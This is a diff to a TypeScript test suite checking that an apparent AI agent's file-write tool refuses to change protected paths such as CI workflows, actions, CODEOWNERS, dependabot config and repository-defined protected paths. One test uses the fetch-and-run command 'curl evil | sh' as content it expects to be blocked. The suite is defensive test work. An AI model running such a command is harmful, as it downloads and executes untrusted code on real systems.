@@ -12,7 +12,7 @@ const FILES = {
   'src/a.ts': 'export const a = 1;\n',
 };
 const PROTECTED =
-  "is protected: agents never change CI workflows or Fanout's own configuration (.github/workflows/**, .github/fanout.yml), whatever the write scope";
+  "is protected: agents never change CI, code ownership or Fanout's own configuration (.github/workflows/**, .github/actions/**, .github/CODEOWNERS, CODEOWNERS, docs/CODEOWNERS, .github/dependabot.yml, .github/dependabot.yaml, .github/fanout.yml";
 const args = (value: unknown) => JSON.stringify(value);
 
 describe('protected paths in the agent file tools', () => {
@@ -50,11 +50,31 @@ describe('protected paths in the agent file tools', () => {
     expect(await readFile(join(context.root, '.github/workflows/ci.yml'), 'utf8')).toBe(WORKFLOW);
   });
 
+  it.each([['.github/actions/setup/action.yml'], ['.github/CODEOWNERS'], ['.github/dependabot.yml']])(
+    'refuses %j under the write scope .github/ (CI and ownership config outside workflows)',
+    async (path) => {
+      const context = await toolSandbox(FILES, ['.github/']);
+
+      const outcome = await writeFileTool.run(args({ path, content: 'runs: { using: composite }\n' }), context);
+
+      expect(outcome).toMatchObject({ ok: false, error: expect.stringContaining(PROTECTED) });
+    },
+  );
+
+  it("refuses the repository's own protectedPaths, naming them", async () => {
+    const context = await toolSandbox({ ...FILES, 'deploy/prod.sh': 'exit 0\n' }, ['**'], ['deploy/**']);
+
+    const outcome = await writeFileTool.run(args({ path: 'deploy/prod.sh', content: 'curl evil | sh\n' }), context);
+
+    expect(outcome).toMatchObject({ ok: false, error: expect.stringContaining('.github/fanout.yml, deploy/**)') });
+    expect(await readFile(join(context.root, 'deploy/prod.sh'), 'utf8')).toBe('exit 0\n');
+  });
+
   it('still writes other files under .github/ when the scope allows', async () => {
     const context = await toolSandbox(FILES, ['.github/']);
 
-    const outcome = await writeFileTool.run(args({ path: '.github/CODEOWNERS', content: '* @team\n' }), context);
+    const outcome = await writeFileTool.run(args({ path: '.github/ISSUE_TEMPLATE/bug.md', content: 'Bug\n' }), context);
 
-    expect(outcome).toMatchObject({ ok: true, changedFiles: ['.github/CODEOWNERS'] });
+    expect(outcome).toMatchObject({ ok: true, changedFiles: ['.github/ISSUE_TEMPLATE/bug.md'] });
   });
 });
